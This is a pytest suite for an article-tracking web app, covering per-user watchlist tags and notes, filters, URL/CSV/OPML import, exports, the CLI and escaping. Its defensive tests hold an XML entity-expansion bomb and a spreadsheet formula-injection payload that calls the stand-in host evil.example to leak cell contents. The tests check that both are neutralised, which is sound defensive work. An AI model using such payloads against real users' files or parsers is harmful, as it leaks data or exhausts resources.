"""Watchlists: tags and notes per user, list filters, two users on one article, bulk import and exports."""

from __future__ import annotations

import csv
import io
import itertools
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from lxml import etree
from sqlalchemy import func, select

from tests.factories import (
    add_article,
    article_page,
    auth,
    check_now,
    command_env,
    make_token,
    post_form,
    set_up_admin,
    story,
)
from tests.pageserver import PageServer
from tracker.adapters.models import Article, Subscription
from tracker.domain.listfiles import FORMULA_STARTS, WatchedArticle, read_list, write_csv

ROOT = Path(__file__).resolve().parent.parent


def follow(client: FlaskClient, token: str, article_id: int, **fields):
    response = client.put(f"/api/v1/articles/{article_id}/follow", json=fields, headers=auth(token))
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def listed(client: FlaskClient, token: str, query: str = "") -> list[str]:
    response = client.get(f"/api/v1/articles?{query}", headers=auth(token))
    assert response.status_code == 200, response.get_json()
    return [item["url"] for item in response.get_json()["items"]]


def test_tags_and_notes_are_each_users_own(client: FlaskClient, runtime):
    alice, bob = make_token(runtime, "alice"), make_token(runtime, "bob")
    article = add_article(client, alice, "https://example.com/a")
    add_article(client, bob, "https://example.com/a")
    body = follow(
        client, alice, article["id"], tags=["Politics", "corrections ", "politics"], note="watch the quotes"
    )
    assert (body["following"], body["tags"], body["note"]) == (
        True,
        ["politics", "corrections"],
        "watch the quotes",
    )
    bobs = client.get(f"/api/v1/articles/{article['id']}", headers=auth(bob)).get_json()
    assert (bobs["tags"], bobs["note"]) == ([], None)
    tags = client.get("/api/v1/tags", headers=auth(alice)).get_json()["items"]
    assert tags == [{"tag": "corrections", "articles": 1}, {"tag": "politics", "articles": 1}]
    bad = client.put(f"/api/v1/articles/{article['id']}/follow", json={"tags": ["<b>"]}, headers=auth(alice))
    assert bad.status_code == 400 and bad.get_json()["error"]["code"] == "bad_tags"


def test_the_list_filters_by_tag_site_status_and_change_and_sorts_by_last_change(client, runtime, site):
    token = make_token(runtime)
    site.serve("/one", "<html><body><article><p>" + "One story. " * 40 + "</p></article></body></html>")
    one = add_article(client, token, site.url("/one"))
    two = add_article(client, token, "https://example.org/two")
    add_article(client, token, "https://www.example.org/three")
    follow(client, token, two["id"], tags=["tech"])
    check_now(client, token, one["id"])
    site.serve(
        "/one", "<html><body><article><p>" + "One story, edited. " * 40 + "</p></article></body></html>"
    )
    check_now(client, token, one["id"])

    assert listed(client, token)[0] == site.url("/one")  # the most recent change first
    assert listed(client, token, "tag=tech") == ["https://example.org/two"]
    assert sorted(listed(client, token, "site=example.org")) == [
        "https://example.org/two",
        "https://www.example.org/three",
    ]
    assert listed(client, token, "changed_since=2000-01-01") == [site.url("/one")]
    client.patch(f"/api/v1/articles/{two['id']}", json={"status": "paused"}, headers=auth(token))
    assert listed(client, token, "status=paused") == ["https://example.org/two"]
    assert listed(client, token, "tag=nothing") == []


def test_two_users_one_article_polled_once_and_unfollowing_leaves_the_other(
    client, runtime, site: PageServer
):
    alice, bob = make_token(runtime, "alice"), make_token(runtime, "bob")
    url = site.serve(
        "/shared", "<html><body><article><p>" + "Shared story. " * 40 + "</p></article></body></html>"
    )
    first = add_article(client, alice, url)
    second = add_article(client, bob, url.replace("http://", "HTTP://") + "?utm_source=x")
    assert first["id"] == second["id"]
    with runtime.sessions() as session:
        assert session.scalar(select(func.count()).select_from(Article)) == 1
        assert session.scalar(select(func.count()).select_from(Subscription)) == 2
    assert listed(client, alice) == listed(client, bob) == [url]
    assert client.delete(f"/api/v1/articles/{first['id']}", headers=auth(alice)).status_code == 204
    assert listed(client, alice) == [] and listed(client, bob) == [url]
    article = client.get(f"/api/v1/articles/{first['id']}", headers=auth(bob)).get_json()
    assert article["status"] == "active"


def test_one_user_cannot_read_or_change_anothers_watchlist(client, runtime):
    alice, bob = make_token(runtime, "alice"), make_token(runtime, "bob")
    article = add_article(client, alice, "https://example.com/private-interest")
    follow(client, alice, article["id"], tags=["secret"], note="alice's note")
    assert client.get("/api/v1/tags", headers=auth(bob)).get_json()["items"] == []
    assert client.get("/api/v1/watchlist", headers=auth(bob)).get_json()["items"] == []
    assert listed(client, bob, "tag=secret") == []
    # bob may follow the article himself, but never edits alice's tags or note
    follow(client, bob, article["id"], tags=["mine"])
    mine = client.get(f"/api/v1/articles/{article['id']}", headers=auth(alice)).get_json()
    assert (mine["tags"], mine["note"]) == (["secret"], "alice's note")
    assert client.delete(f"/api/v1/articles/{article['id']}", headers=auth(bob)).status_code == 204
    assert client.delete(f"/api/v1/articles/{article['id']}", headers=auth(bob)).status_code == 404
    anonymous = client.put(f"/api/v1/articles/{article['id']}/follow", json={"tags": ["x"]})
    assert anonymous.status_code == 401


def test_importing_a_pasted_list_reports_added_already_tracked_and_rejected(client, runtime):
    token = make_token(runtime)
    add_article(client, token, "https://example.com/known")
    content = "\n".join(
        [
            "# my list",
            "https://example.com/new-one",
            "https://example.com/known?utm_campaign=x",
            "ftp://example.com/file",
            "not a url at all",
            "",
            "https://example.com/new-two",
        ]
    )
    response = client.post("/api/v1/import?tags=batch", json={"content": content}, headers=auth(token))
    report = response.get_json()
    assert [row["line"] for row in report["added"]] == [2, 7]
    assert [row["line"] for row in report["already_tracked"]] == [3]
    assert [(row["line"], row["error"]["code"]) for row in report["rejected"]] == [
        (4, "bad_url"),
        (5, "bad_line"),
    ]
    assert sorted(listed(client, token, "tag=batch")) == [
        "https://example.com/known",
        "https://example.com/new-one",
        "https://example.com/new-two",
    ]


def test_csv_and_opml_imports_carry_tags_and_exports_round_trip(client, runtime):
    token = make_token(runtime)
    rows = 'url,tags\nhttps://example.com/a,"politics;local"\nhttps://example.com/b,\n,orphan\n'
    report = client.post("/api/v1/import", data=rows, content_type="text/csv", headers=auth(token)).get_json()
    assert len(report["added"]) == 2 and report["rejected"][0]["line"] == 4
    opml = (
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        '<outline text="C" type="link" url="https://example.com/c" category="/science"/>'
        '<outline text="Feed" type="rss" xmlUrl="https://example.com/feed.xml"/></body></opml>'
    )
    report = client.post(
        "/api/v1/import", data=opml, content_type="text/x-opml", headers=auth(token)
    ).get_json()
    assert [row["url"] for row in report["added"]] == ["https://example.com/c"]
    assert report["rejected"][0]["error"]["message"].startswith("a feed")

    exported = client.get("/api/v1/watchlist?format=csv", headers=auth(token))
    assert exported.headers["Content-Disposition"].startswith("attachment")
    table = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert [(row["url"], row["tags"]) for row in table] == [
        ("https://example.com/a", "politics;local"),
        ("https://example.com/b", ""),
        ("https://example.com/c", "science"),
    ]
    outline = etree.fromstring(client.get("/api/v1/watchlist?format=opml", headers=auth(token)).get_data())
    assert next((o.get("url"), o.get("category")) for o in outline.iter("outline")) == (
        "https://example.com/a",
        "/politics,/local",
    )
    # what we export imports again as the same list, into another account
    other = make_token(runtime, "other")
    again = client.post(
        "/api/v1/import", data=exported.get_data(), content_type="text/csv", headers=auth(other)
    ).get_json()
    assert len(again["already_tracked"]) == 3 and sorted(listed(client, other, "tag=politics")) == [
        "https://example.com/a"
    ]


def test_hostile_lists_get_a_clear_error_and_change_nothing(client, runtime):
    token = make_token(runtime)
    entity_bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        '<opml version="2.0"><body><outline url="https://example.com/&lol2;"/></body></opml>'
    )
    for body, kind in [
        (entity_bomb, "text/x-opml"),
        ("<html>not opml</html>", "application/xml"),
        ("no,header\n", "text/csv"),
    ]:
        response = client.post("/api/v1/import", data=body, content_type=kind, headers=auth(token))
        assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_list", body
    assert listed(client, token) == []
    too_big = client.post(
        "/api/v1/import",
        data="https://example.com/x\n" * 200_000,
        content_type="text/plain",
        headers=auth(token),
    )
    assert too_big.status_code == 413


def test_an_articles_full_history_exports_as_json(client, runtime, site: PageServer):
    token = make_token(runtime)
    url = site.serve("/h", "<html><body><article><p>" + "First text. " * 40 + "</p></article></body></html>")
    article = add_article(client, token, url)
    check_now(client, token, article["id"])
    site.serve("/h", "<html><body><article><p>" + "Second text. " * 40 + "</p></article></body></html>")
    check_now(client, token, article["id"])
    response = client.get(f"/api/v1/articles/{article['id']}/history")
    assert response.headers["Content-Disposition"].endswith('-history.json"')
    history = response.get_json()
    assert history["article"]["id"] == article["id"]
    assert [v["number"] for v in history["versions"]] == [1, 2]
    assert history["versions"][1]["paragraphs"][0].startswith("Second text.")


def test_the_import_page_shows_the_report(client: FlaskClient):
    set_up_admin(client)
    page = post_form(
        client, "/import", {"urls": "https://example.com/x\nnot-a-url\nhttps://example.com/y", "tags": "mine"}
    ).get_data(as_text=True)
    assert "<strong>2</strong> added" in page and "<strong>1</strong> rejected" in page
    assert "not-a-url" in page
    listing = client.get("/?tag=mine").get_data(as_text=True)
    assert "https://example.com/x" in listing and "https://example.com/y" in listing


def test_the_command_line_imports_with_a_progress_bar_and_exports(tmp_path: Path):
    database = tmp_path / "cli.sqlite"
    env = command_env(database)
    run = lambda *args, **kw: subprocess.run(  # noqa: E731
        [sys.executable, "-m", "flask", "--app", "app", "tracker", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        **kw,
    )
    assert run("create-token", "alice").returncode == 0
    listing = tmp_path / "urls.txt"
    listing.write_text("https://example.com/1\nhttps://example.com/2\nbogus line here\n")
    result = run("import", str(listing), "--tags", "cli")
    assert result.returncode == 0, result.stderr
    assert "Importing" in result.stderr and "line 3: bad_line" in result.stderr
    assert result.stdout.strip().endswith("2 added, 0 already tracked, 1 rejected")
    exported = run("export", "--format", "opml")
    urls = [o.get("url") for o in etree.fromstring(exported.stdout.encode()).iter("outline")]
    assert urls == ["https://example.com/1", "https://example.com/2"]


def test_the_articles_page_shows_the_readers_tags_and_note_escaped(client: FlaskClient, runtime):
    set_up_admin(client)  # signed in as admin
    token = make_token(runtime, "admin")
    article = add_article(client, token, "https://example.com/a")
    follow(client, token, article["id"], tags=["budget"], note="<b>check the footnotes</b>")
    page = client.get("/").get_data(as_text=True)
    assert '<div class="note">&lt;b&gt;check the footnotes&lt;/b&gt;</div>' in page
    assert ">budget</a>" in page


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_csv_export_neutralises_formulas_and_still_imports(client: FlaskClient, runtime, site: PageServer):
    """A page's title and a note that a spreadsheet would run come out as text (a leading ')."""
    token = make_token(runtime)
    article = add_article(client, token, site.serve("/f", article_page(FORMULA_TITLE, story())))
    check_now(client, token, article["id"])
    follow(client, token, article["id"], note="=1+1", tags=["local"])

    exported = client.get("/api/v1/watchlist?format=csv", headers=auth(token)).get_data(as_text=True)
    (row,) = csv.DictReader(io.StringIO(exported))
    assert (row["title"], row["note"], row["tags"]) == ("'" + FORMULA_TITLE, "'=1+1", "local")
    other = make_token(runtime, "other")
    again = client.post(
        "/api/v1/import", data=exported.encode(), content_type="text/csv", headers=auth(other)
    ).get_json()
    assert [item["article_id"] for item in again["already_tracked"]] == [article["id"]]
    assert listed(client, other, "tag=local") == [row["url"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_starts_with_a_formula_character_and_the_guard_reads_back(start: str):
    """Every cell of every CSV written (the API's and the command line's export share write_csv);
    negative numbers too, as OWASP advises. The reader takes off the guard it finds on url and tags."""
    row = WatchedArticle(
        url=f"{start}https://example.com/a",
        title=f"{start}5 title",
        tags=(f"{start}tag", "two"),
        note=f"{start}note",
        added_at=datetime(2026, 3, 5, tzinfo=UTC),
    )
    written = write_csv([row])
    cells = next(itertools.islice(csv.reader(io.StringIO(written)), 1, None))
    assert all(not cell.startswith(FORMULA_STARTS) for cell in cells)
    assert cells[1:4] == [f"'{start}5 title", f"'{start}tag;two", f"'{start}note"]
    lines, bad = read_list(written, "csv")
    url, tag = f"{start}https://example.com/a".strip(), f"{start}tag".strip()  # the reader trims cells
    assert (lines[0].url, lines[0].tags, bad) == (url, (tag, "two"), [])
